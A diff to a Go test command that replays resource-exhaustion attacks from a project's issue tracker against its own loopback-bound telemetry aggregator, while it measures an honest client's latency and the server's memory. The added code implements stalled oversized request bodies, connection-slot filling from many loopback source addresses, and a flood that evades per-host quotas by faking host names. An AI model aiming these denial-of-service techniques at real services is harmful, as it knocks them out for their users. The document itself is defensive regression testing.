@@ -1,4 +1,4 @@
-// Command aggattack replays the attacks of issue 17 on a running
+// Command aggattack replays the attacks of issues 17 and 34 on a running
 // `slowrank aggregate` (bound to loopback) and measures what an honest
 // agent sees meanwhile: the latency of its requests and how many fail, and
 // the aggregator's resident memory (VmRSS of --pid). Every attack is
@@ -30,9 +30,10 @@ func main() {
 	addr := flag.String("addr", "127.0.0.1:4317", "the aggregator (loopback only)")
 	token := flag.String("token", "", "the aggregator's bearer token")
 	pid := flag.Int("pid", 0, "the aggregator's process id (for its RSS)")
-	attack := flag.String("attack", "none", "none, idle401, slowbodies or bigtopo")
+	attack := flag.String("attack", "none", "none, idle401, slowbodies, bigtopo, stalled, connfill or rankflood")
 	conns := flag.Int("conns", 4100, "idle401: connections")
 	jobs := flag.Int("jobs", 8, "bigtopo: jobs, one 0.8 MB topology record each")
+	ranks := flag.Int("ranks", 1<<16, "rankflood: ranks, 1024 a request, each request claiming a new host name")
 	flag.Parse()
 	if host, _, err := net.SplitHostPort(*addr); err != nil || !net.ParseIP(host).IsLoopback() {
 		fmt.Fprintln(os.Stderr, "aggattack: --addr must be a loopback host:port")
@@ -48,6 +49,12 @@ func main() {
 		slowBodies(ctx, &wg, *addr, *token, 16)
 	case "bigtopo":
 		bigTopologies(*addr, *token, *jobs)
+	case "stalled":
+		stalled(ctx, &wg, *addr, *token, 64)
+	case "connfill":
+		connFill(ctx, &wg, *addr, *conns)
+	case "rankflood":
+		rankFlood(*addr, *token, *ranks)
 	default:
 		fmt.Fprintln(os.Stderr, "aggattack: unknown --attack", *attack)
 		os.Exit(2)
@@ -171,6 +178,80 @@ func bigTopologies(addr, token string, n int) {
 		}
 	}
 	time.Sleep(2 * time.Second) // the merged topologies reach the detector
+}
+
+// stalled starts n requests, each from its own loopback address, that
+// declare a body just under 4 MiB and send none of it (issue 34: 64 of
+// them reserved the whole 256 MiB body budget).
+func stalled(ctx context.Context, wg *sync.WaitGroup, addr, token string, n int) {
+	for i := range n {
+		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 2, byte(i+1))}, Timeout: time.Second}
+		c, err := d.Dial("tcp", addr)
+		if err != nil {
+			continue
+		}
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			defer c.Close()
+			fmt.Fprintf(c, "POST /v1/logs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/x-protobuf\r\nContent-Length: %d\r\n\r\n", token, 4<<20-1)
+			<-ctx.Done()
+		}()
+	}
+	time.Sleep(500 * time.Millisecond)
+}
+
+// connFill opens n silent connections, 64 from each of n/64 loopback
+// addresses (issue 34: many loopback sources filled every slot).
+func connFill(ctx context.Context, wg *sync.WaitGroup, addr string, n int) {
+	opened := 0
+	for i := range n {
+		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 3+byte(i/64/250), byte(1+i/64%250))}, Timeout: time.Second}
+		c, err := d.Dial("tcp", addr)
+		if err != nil {
+			continue
+		}
+		opened++
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			defer c.Close()
+			<-ctx.Done()
+		}()
+	}
+	fmt.Printf("connfill: %d of %d connections opened\n", opened, n)
+}
+
+// rankFlood sends steps for n ranks from one source, 1024 a request, each
+// request claiming a new host name (issue 34: quotas were per claimed host
+// name, so one client reached the global rank budget).
+func rankFlood(addr, token string, n int) {
+	// From a source of its own: the honest agent's is 127.0.0.1.
+	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 4, 1)}, Timeout: time.Second}
+	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext}}
+	now := aggregate.MonoNow()
+	codes := map[int]int{}
+	for h := 0; h*1024 < n; h++ {
+		var steps []detector.Step
+		for r := h * 1024; r < min((h+1)*1024, n); r++ {
+			steps = append(steps, detector.Step{Kind: detector.KindStep, Job: "flood", Rank: r, Step: 1, StartNS: now - 2e6, EndNS: now - 1e6,
+				Phases: map[string]float64{detector.PhaseHost: 1}})
+		}
+		body, _ := plogotlp.NewExportRequestFromLogs(wire.EncodeLogs(fmt.Sprint("evil-", h), nil, steps, nil)).MarshalProto()
+		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/v1/logs", strings.NewReader(string(body)))
+		req.Header.Set("Content-Type", "application/x-protobuf")
+		req.Header.Set("Authorization", "Bearer "+token)
+		resp, err := client.Do(req)
+		if err != nil {
+			codes[0]++
+			continue
+		}
+		codes[resp.StatusCode]++
+		_, _ = io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+	}
+	fmt.Printf("rankflood: %d ranks in %d requests, answers %v\n", n, (n+1023)/1024, codes)
+	time.Sleep(2 * time.Second) // the detector has taken them
 }
 
 // rss reads VmRSS of pid.
